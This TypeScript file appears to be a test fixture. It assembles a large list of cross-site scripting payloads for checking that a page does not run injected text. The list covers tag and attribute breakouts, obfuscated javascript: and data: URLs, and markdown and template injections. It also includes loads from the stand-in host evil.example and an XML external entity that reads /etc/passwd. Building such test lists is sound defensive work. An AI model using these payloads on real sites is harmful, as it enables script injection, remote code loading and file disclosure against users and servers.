/*
 * Texts that would become a script in a page that takes them for its own. Each calls `alert` or asks another site for
 * something, so that a browser shows when one has run.
 */

const call = 'alert(document.domain)'
const elsewhere = '//evil.example/x'

/** What is begun where the text may stand: text, attributes of either quote, comments, and elements of raw text. */
const ways = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '`>',
]

/** Elements that run or load something by themselves. */
const elements = [
  `<script>${call}</script>`,
  `<ScRiPt src=${elsewhere}.js></sCrIpT>`,
  `<script/x>${call}</script\t>`,
  `<img src=x onerror=${call}>`,
  `<img src="${elsewhere}.png">`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script href="${elsewhere}.js"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>">`,
  `<math><a xlink:href=javascript:${call}>x`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=${call}>">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<embed src="${elsewhere}.swf">`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="${elsewhere}.css">`,
  `<style>@import '${elsewhere}.css';</style>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<form action="javascript:${call}"><button autofocus>x`,
  `<template><script>${call}</script></template>`,
]

/** Addresses that run instead of leading somewhere. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\tjavascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\u0000script:${call}`,
  `\u0001javascript:${call}`,
  `javascript\t:${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `javascript&#x3a;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61vascript:${call}`,
  `&Tab;javascript:${call}`,
  `java&NewLine;script:${call}`,
  `javascript%3A${call}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${call}>*/`,
  `javascript://example.org/%0a${call}`,
  `javascript://example.org/?%0d${call}`,
  `javascript:void(0);${call}`,
  `\u202ejavascript:${call}`,
  `javascript\u200b:${call}`,
  `ｊａｖａｓｃｒｉｐｔ:${call}`,
  `vbscript:msgbox(1)`,
  `livescript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:https://evil.example/x`,
  `file:///etc/passwd`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `https://example.org/"onmouseover="${call}`,
  `https://example.org/'><script>${call}</script>`,
  `https://example.org/\u2028javascript:${call}`,
  `https://user:secret@evil.example/`,
  `https:/\\evil.example`,
  `/\\evil.example`,
  `//evil.example`,
]

/** Markdown that would link, load or hold HTML. */
const markdown = [
  ...addresses.slice(0, 30).map((address) => `[a link](${address})`),
  ...addresses.slice(0, 10).map((address) => `[a link](<${address}>)`),
  `![a picture](${elsewhere}.png)`,
  `![a](javascript:${call})`,
  `[a]: javascript:${call}\n\n[a]`,
  `<javascript:${call}>`,
  `<https://example.org/"onclick=${call}>`,
  `[a](https://example.org "x\\" onclick=${call})`,
  `[a\\](javascript:${call})](https://example.org)`,
  `[[/people/x|<img src=x onerror=${call}>]]`,
  `[[javascript:${call}|x]]`,
  `[[/people/x"onclick="${call}|x]]`,
  `[^javascript:${call}]`,
  `[^/sources/x"onload="${call}]`,
  '```html\n<script>alert(1)</script>\n```',
  `    <script>${call}</script>`,
  `> <img src=x onerror=${call}>`,
  `- <svg onload=${call}>`,
  `# <script>${call}</script>`,
  `:::spoiler <script>${call}</script>\nx\n:::`,
  `**<b onclick=${call}>**`,
  `\`<script>${call}</script>\``,
  `<!--><script>${call}</script>-->`,
  `<?xml ?><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`,
]

/** What ends an attribute and begins another. */
const attributes = ['"', "'", '`', ' ', '&quot;', '&#34;', '\\"', '\u00a0'].flatMap((quote) => [
  `x${quote}onmouseover=${call} x=${quote}`,
  `x${quote} autofocus onfocus=${quote}${call}`,
  `x${quote} style=${quote}background:url(${elsewhere})`,
])

/** What would leave data that stand in a page or a feed, and what templates and scripts would take for theirs. */
const data = [
  `"},{"@type":"Thing","url":"javascript:${call}"}`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `<\\/script><script>${call}</script>`,
  `<!--<script>`,
  `\u2028${call}\u2029`,
  `";${call};//`,
  `';${call};//`,
  `\`;\${${call}}`,
  `\\";${call};//`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  `</title><link href="javascript:${call}"/><title>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?xml-stylesheet href="${elsewhere}.xsl"?>`,
  `</entry></feed><script>${call}</script>`,
  `$1$&$\`$'</script><script>${call}</script>`,
  `__proto__`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  `＜script＞${call}＜/script＞`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\\x3cscript\\x3e${call}`,
]

/** All of them, each once. */
export const scriptPayloads: readonly string[] = [
  ...new Set([
    ...ways.flatMap((way) => elements.map((element) => way + element)),
    ...addresses,
    ...markdown,
    ...attributes,
    ...data,
  ]),
]
